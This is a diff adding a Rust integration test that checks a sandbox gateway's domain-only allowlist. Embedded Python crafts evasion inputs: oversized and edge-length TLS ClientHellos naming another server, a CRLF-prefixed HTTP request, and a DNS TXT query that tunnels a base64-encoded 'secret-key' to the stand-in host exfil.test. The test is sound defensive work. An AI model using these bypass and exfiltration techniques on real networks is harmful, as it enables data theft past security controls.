@@ -808,3 +808,88 @@ print("up", s.recv(100).decode(), round(time.time() - t, 2))
     assert!(secs("up") >= 3.2, "the upload was not held to 128 KiB/s: {out}");
     let _ = msb(&["rm", "--force", name]);
 }
+
+/// N1/N2 (review): under a domain-only allowlist, first bytes whose server the gateway
+/// cannot read as allowed are denied without a host socket (a ClientHello past 16 KiB naming
+/// another server, one of 16,382 bytes, a request line after a leading CRLF), and a TXT
+/// lookup of a name no rule opens is answered in the sandbox: the resolver never sees it.
+#[test]
+fn a_domain_only_allowlist_denies_unreadable_first_bytes_and_dns_beyond_its_names() {
+    let net = TestNet::new(2);
+    let (web, _) = http_server(net.tcp(80));
+    let tls = counting(net.tcp(443));
+    let asked = dns_server(net.udp(53), net.host);
+    let name = "e2e-net-allowlist";
+    let dir = tempfile::tempdir().unwrap();
+    let policy = dir.path().join("allow.policy");
+    std::fs::write(&policy, "allow tcp/web.test@reserved:80,443\ndefault deny\n").unwrap();
+    start_sandbox(name, &["--policy", policy.to_str().unwrap(), "--dns", &net.host.to_string()]);
+    let h = net.host;
+    let py = r#"
+import socket, struct, sys
+def hello(name, pad):
+    n = name.encode()
+    sni = b"\x00" + struct.pack(">H", len(n)) + n
+    sni = struct.pack(">H", len(sni)) + sni
+    ext = b"\x00\x00" + struct.pack(">H", len(sni)) + sni + struct.pack(">HH", 21, pad) + b"\x00" * pad
+    body = b"\x03\x03" + b"\x07" * 32 + b"\x00" + b"\x00\x02\x13\x01" + b"\x01\x00" + struct.pack(">H", len(ext)) + ext
+    hs = b"\x01" + struct.pack(">I", len(body))[1:] + body
+    out = b""
+    for i in range(0, len(hs), 16384):
+        c = hs[i:i + 16384]
+        out += b"\x16\x03\x01" + struct.pack(">H", len(c)) + c
+    return out
+def tryit(what, port, data):
+    try:
+        s = socket.create_connection(("web.test", port), timeout=10)
+        s.sendall(data)
+        got = s.recv(64)
+        print(what, "got", got[:16].hex() or "eof")
+    except ConnectionResetError:
+        print(what, "reset")
+    except Exception as e:
+        print(what, "error", type(e).__name__)
+tryit("big", 443, hello("other.test", 20000))
+tryit("edge", 443, hello("other.test", 16382 - 69))
+tryit("crlf", 80, b"\r\nGET / HTTP/1.1\r\nHost: other.test\r\n\r\n")
+sys.stdout.flush()
+"#;
+    let o = msb(&["exec", name, "--", "python3", "-c", py]);
+    let out = String::from_utf8_lossy(&o.stdout).into_owned();
+    let alert = "got 15030300020231";
+    for (what, want) in [("big", alert), ("edge", alert)] {
+        let line = out.lines().find(|l| l.starts_with(what)).unwrap_or_default();
+        assert!(line.contains(want), "{what}: {out} {}", String::from_utf8_lossy(&o.stderr));
+    }
+    let crlf = out.lines().find(|l| l.starts_with("crlf")).unwrap_or_default();
+    assert!(crlf.contains("reset") || crlf.contains("eof"), "{out}");
+    assert_eq!(tls.load(Ordering::SeqCst), 0, "a ClientHello naming another server got a host socket");
+    assert_eq!(web.load(Ordering::SeqCst), 0, "the CRLF-led request got a host socket");
+    // A TXT lookup of a name no rule opens, straight to the resolver's address.
+    let before = asked.load(Ordering::SeqCst);
+    let py = format!(
+        r#"
+import socket, struct
+q = struct.pack(">HHHHHH", 0x7478, 0x0100, 1, 0, 0, 0)
+for label in b"c2VjcmV0LWtleQ.t.exfil.test".split(b"."):
+    q += bytes([len(label)]) + label
+q += b"\x00" + struct.pack(">HH", 16, 1)
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.settimeout(5)
+s.sendto(q, ("{h}", 53))
+a = s.recv(4096)
+print("rcode", a[3] & 15, "answers", struct.unpack(">H", a[6:8])[0])
+"#
+    );
+    let o = msb(&["exec", name, "--", "python3", "-c", &py]);
+    assert_eq!(
+        String::from_utf8_lossy(&o.stdout).trim(),
+        "rcode 3 answers 0",
+        "{}",
+        String::from_utf8_lossy(&o.stderr)
+    );
+    assert_eq!(asked.load(Ordering::SeqCst), before, "the TXT lookup reached the resolver");
+    let audit = ok(&["logs", "--net", name]);
+    assert!(audit.contains("no allow rule could open c2vjcmv0lwtleq.t.exfil.test"), "{audit}");
+    let _ = msb(&["rm", "--force", name]);
+}
